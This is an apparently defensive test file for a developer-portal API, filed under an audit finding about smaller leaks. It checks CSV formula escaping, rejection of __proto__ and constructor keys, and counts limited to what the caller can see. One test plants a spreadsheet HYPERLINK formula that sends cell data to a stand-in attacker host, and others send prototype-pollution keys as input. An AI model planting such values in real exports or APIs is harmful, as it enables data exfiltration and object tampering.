// Finding 9: smaller leaks: formulas in CSV exports, prototype keys, counts and names of what a
// caller cannot see.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { env } from './environment.mjs';

describe('smaller leaks', () => {
  test('a showback CSV never carries a formula from an entity title', async () => {
    await env.register(
      'owner',
      'erin-tools/formula',
      {
        'catalog-info.yaml':
          'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: formula-title\n  title: \'=HYPERLINK("https://evil.example/?d="&A1,"open")\'\nspec:\n  type: service\n  lifecycle: production\n  owner: group:default/checkout-team\n',
      },
      'component:default/formula-title',
    );
    const res = await env.api('/api/cost/showback.csv?entityRef=group:default/checkout-team', { as: 'owner' });
    assert.equal(res.status, 200);
    const csv = await res.text();
    const line = csv.split('\n').find(l => l.startsWith('component:default/formula-title'));
    assert.ok(line, csv);
    const title = line.slice('component:default/formula-title,'.length);
    assert.match(title, /^"?'=HYPERLINK/, `the title cell starts a formula: ${title}`);
  });

  test('__proto__ and constructor are refused as a size of the cost estimate', async () => {
    for (const size of ['__proto__', 'constructor', 'toString']) {
      const res = await env.json('/api/cost/estimate', { as: 'owner', method: 'POST', body: { size, replicas: 1, storageGiB: 1 } });
      assert.equal(res.status, 400, `${size}: ${JSON.stringify(res.body)}`);
      assert.match(res.body.error.message, /size/);
    }
  });

  test('__proto__ and constructor are refused as answer keys of an assessment, and nothing stored changes', async () => {
    const path = '/api/maturity/assessments/2026-Q4?scope=group:default/checkout-team';
    const before = await env.json(path, { as: 'owner' });
    for (const key of ['__proto__', 'constructor']) {
      const res = await env.api(path, {
        as: 'owner',
        method: 'PUT',
        headers: { 'content-type': 'application/json' },
        body: `{"revision": ${before.body.revision ?? 0}, "answers": {"${key}": {"value": "yes"}}}`,
      });
      const text = await res.text();
      assert.equal(res.status, 400, `${key}: ${text}`);
      assert.match(JSON.parse(text).error.message, new RegExp(key));
    }
    assert.deepEqual((await env.json(path, { as: 'owner' })).body, before.body);
  });

  test('maturity evidence counts only the entities the caller can see', async () => {
    const { body } = await env.json('/api/maturity/evidence?scope=group:default/payments-team', { as: 'owner' });
    const visible = await env.json('/api/catalog/entities/by-query?filter=kind=component,relations.ownedBy=group:default/payments-team&limit=100', {
      as: 'owner',
    });
    const count = visible.body.items.length;
    const techdocs = body.byQuestion['documentation-and-specifications.q1']?.find(s => s.sourceId === 'techdocs');
    assert.ok(techdocs, JSON.stringify(body));
    assert.match(techdocs.summary, new RegExp(` of ${count} component`), `${techdocs.summary}, but ${count} are visible`);
  });
});
